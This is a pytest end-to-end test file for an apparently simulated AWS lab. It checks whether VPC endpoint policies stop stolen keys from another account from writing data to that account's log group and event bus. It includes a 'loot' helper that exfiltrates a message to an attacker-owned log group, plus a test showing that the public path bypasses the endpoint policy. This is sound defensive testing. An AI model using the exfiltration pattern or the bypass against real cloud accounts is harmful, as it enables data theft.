"""The exfiltration scenario: another account's keys used on the instance (TV04, 1.8).

Through plain boto3 clients made by the lab: with an open endpoint the stolen keys write to the
other account's log group and event bus; an endpoint policy limited to the own account stops
both, naming the other account's user; over the public path the endpoint policy cannot help.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest

from labkit import data
from labkit.local.process.launcher import LocalLab

pytestmark = [pytest.mark.e2e, pytest.mark.slow]
OTHER = "444455556666"


@pytest.fixture(scope="module")
def lab() -> Iterator[LocalLab]:
    started = LocalLab.start("exfiltration")
    try:
        yield started
    finally:
        started.stop()


def endpoint(lab: LocalLab, service: str, policy: str | None, private_dns: bool = True) -> str:
    info = lab.info
    ec2 = lab.client("ec2", "admin")
    kwargs: dict[str, Any] = {
        "VpcEndpointType": "Interface",
        "VpcId": info.vpc_id,
        "ServiceName": f"com.amazonaws.{info.region}.{service}",
        "SubnetIds": list(info.subnet_ids),
        "SecurityGroupIds": list(info.security_group_ids.values()),
        "PrivateDnsEnabled": private_dns,
    }
    if policy:
        kwargs["PolicyDocument"] = data.policy_text(
            policy, account_id=info.account_id, region=info.region
        )
    vpce = str(ec2.create_vpc_endpoint(**kwargs)["VpcEndpoint"]["VpcEndpointId"])
    for _ in range(60):
        state = ec2.describe_vpc_endpoints(VpcEndpointIds=[vpce])["VpcEndpoints"][0]["State"]
        if state == "available":
            return vpce
        time.sleep(0.5)
    raise AssertionError(f"{vpce} never became available")


def remove(lab: LocalLab, *vpce_ids: str) -> None:
    lab.client("ec2", "admin").delete_vpc_endpoints(VpcEndpointIds=list(vpce_ids))


def loot(lab: LocalLab) -> Any:
    return lab.client("logs", "other-account").put_log_events(
        logGroupName="exfil-drop",
        logStreamName="loot",
        logEvents=[{"timestamp": int(time.time() * 1000), "message": "secret"}],
    )


def test_an_open_endpoint_lets_stolen_keys_write_to_the_other_account(lab: LocalLab) -> None:
    vpce = endpoint(lab, "logs", None)
    try:
        answer = loot(lab)
        record = lab.decision(answer["ResponseMetadata"]["RequestId"])
        assert record.decision == "Allowed" and record.network.vpce_id == vpce
        assert record.request.principal == f"arn:aws:iam::{OTHER}:user/exfil"
    finally:
        remove(lab, vpce)


def test_an_own_account_endpoint_policy_stops_them(lab: LocalLab) -> None:
    vpce = endpoint(lab, "logs", "own-account-only")
    try:
        logs = lab.client("logs", "other-account")
        with pytest.raises(logs.exceptions.ClientError) as caught:
            loot(lab)
        assert caught.value.response["Error"]["Message"] == (
            f"User: arn:aws:iam::{OTHER}:user/exfil is not authorized to perform: "
            f"logs:PutLogEvents on resource: arn:aws:logs:{lab.info.region}:{OTHER}:"
            "log-group:exfil-drop:log-stream:loot because no VPC endpoint policy allows the "
            "logs:PutLogEvents action"
        )
        own = lab.client("logs").put_log_events(
            logGroupName="logs-test-allowed",
            logStreamName="log-stream",
            logEvents=[{"timestamp": int(time.time() * 1000), "message": "mine"}],
        )
        assert own["ResponseMetadata"]["HTTPStatusCode"] == 200
    finally:
        remove(lab, vpce)


def test_the_events_endpoint_stops_puts_to_the_other_accounts_bus(lab: LocalLab) -> None:
    vpce = endpoint(lab, "events", "own-account-only")
    try:
        events = lab.client("events", "other-account")
        with pytest.raises(events.exceptions.ClientError) as caught:
            events.put_events(
                Entries=[
                    {
                        "Source": "com.example.loot",
                        "DetailType": "t",
                        "Detail": "{}",
                        "EventBusName": "exfil-bus",
                    }
                ]
            )
        message = caught.value.response["Error"]["Message"]
        assert message.startswith(f"User: arn:aws:iam::{OTHER}:user/exfil is not authorized")
        assert "event-bus/exfil-bus because no VPC endpoint policy allows" in message
    finally:
        remove(lab, vpce)


def test_without_private_dns_the_endpoint_policy_is_bypassed(lab: LocalLab) -> None:
    """TV03 for the attacker: the public path through the IGW never meets the endpoint policy."""
    vpce = endpoint(lab, "logs", "own-account-only", private_dns=False)
    try:
        answer = loot(lab)
        record = lab.decision(answer["ResponseMetadata"]["RequestId"])
        assert record.decision == "Allowed"
        assert "aws:SourceVpce" not in record.request.context
    finally:
        remove(lab, vpce)
